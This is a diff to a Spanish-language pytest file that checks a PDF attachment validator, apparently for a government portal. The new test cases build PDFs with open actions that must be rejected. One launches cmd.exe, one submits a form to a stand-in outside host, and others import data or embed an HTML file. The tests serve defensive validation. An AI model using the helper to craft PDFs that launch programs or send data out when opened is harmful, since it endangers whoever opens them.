@@ -122,6 +122,13 @@ def liga_a_un_sitio(escritor: PdfWriter) -> None:
     escritor.add_uri(0, "https://www.ventanillaunica.gob.mx/", [0, 0, 90, 20])
 
 
+def al_abrir_con(escritor: PdfWriter, accion: str, **valores: str) -> None:
+    """Una acción al abrir el documento: /Launch, /SubmitForm, /ImportData…"""
+    escritor.root_object[NameObject("/OpenAction")] = DictionaryObject({
+        NameObject("/S"): NameObject(accion),
+        **{NameObject(f"/{k}"): TextStringObject(v) for k, v in valores.items()}})
+
+
 def cifrado_sin_contrasena_para_abrir(escritor: PdfWriter) -> None:
     escritor.encrypt("", owner_password="del-dueño")
 
@@ -175,7 +182,16 @@ RECHAZADOS = {
         Falla.JAVASCRIPT),
     "JavaScript en un flujo de objetos comprimido": (js_en_flujo_de_objetos(), Falla.JAVASCRIPT),
     "formulario XFA": (pdf(formulario_xfa), Falla.JAVASCRIPT),
+    "al abrir, ejecutar un programa (/Launch)": (pdf(lambda e: al_abrir_con(e, "/Launch", F="cmd.exe")),
+                                                 Falla.ACTIVO),
+    "al abrir, enviar un formulario (/SubmitForm)": (pdf(lambda e: al_abrir_con(
+        e, "/SubmitForm", F="https://sitio-ajeno.example/")), Falla.ACTIVO),
+    "al abrir, importar datos (/ImportData)": (pdf(lambda e: al_abrir_con(e, "/ImportData", F="datos.fdf")),
+                                               Falla.ACTIVO),
+    "un archivo incrustado (/EmbeddedFiles)": (pdf(lambda e: e.add_attachment("pagina.html", HTML)),
+                                               Falla.ACTIVO),
 }
+
 
 
 @pytest.mark.parametrize(("contenido", "falla"), RECHAZADOS.values(), ids=RECHAZADOS.keys())
@@ -210,11 +226,14 @@ MENSAJES = [
     (pdf(lambda e: e.encrypt("secreta")), "x.pdf", "El archivo «x.pdf» está cifrado o protegido con contraseña "
                                                    "y no se puede revisar: adjunte un PDF sin protección."),
     (pdf(al_abrir), "x.pdf", "El archivo «x.pdf» contiene JavaScript; adjunte un PDF sin código."),
+    (pdf(lambda e: al_abrir_con(e, "/Launch", F="cmd.exe")), "x.pdf",
+     "El archivo «x.pdf» contiene acciones que abren programas o envían datos, o archivos incrustados; "
+     "adjunte un PDF sin ellos."),
 ]
 
 
 @pytest.mark.parametrize(("contenido", "nombre", "mensaje"), MENSAJES,
-                         ids=["no es PDF", "dañado", "sin páginas", "cifrado", "JavaScript"])
+                         ids=["no es PDF", "dañado", "sin páginas", "cifrado", "JavaScript", "activo"])
 def test_cada_rechazo_dice_por_que_y_nombra_el_archivo(contenido: bytes, nombre: str, mensaje: str) -> None:
     with pytest.raises(ErrorCaptura) as error:
         adjuntos.validar_copia(nombre, contenido)
